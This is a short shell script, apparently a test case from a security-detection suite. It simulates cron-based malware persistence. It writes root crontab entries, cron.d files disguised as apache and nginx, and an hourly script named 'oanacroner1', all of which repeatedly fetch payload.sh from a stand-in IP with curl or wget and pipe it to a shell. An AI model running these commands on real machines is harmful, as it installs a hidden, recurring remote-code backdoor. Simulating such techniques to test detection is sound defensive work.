#!/bin/sh
. /opt/case/case.sh

line='*/15 * * * * (curl -fsSL http://203.0.113.10/payload.sh||wget -q -O- http://203.0.113.10/payload.sh)|sh'
mkdir -p /var/spool/cron/crontabs /etc/cron.hourly /etc/cron.d
printf '%s\n##' "$line" >/var/spool/cron/root
printf '%s\n##' "$line" >/var/spool/cron/crontabs/root
printf '%s\n' "$line" | sed 's/\* (/* root (/' | tee /etc/cron.d/apache /etc/cron.d/root /etc/cron.d/nginx >/dev/null
printf '#!/bin/bash\n(curl -fsSL http://203.0.113.10/payload.sh)|bash\n' >/etc/cron.hourly/oanacroner1
chmod 755 /etc/cron.hourly/oanacroner1
grep -q payload /etc/cron.d/apache /var/spool/cron/root
took_place
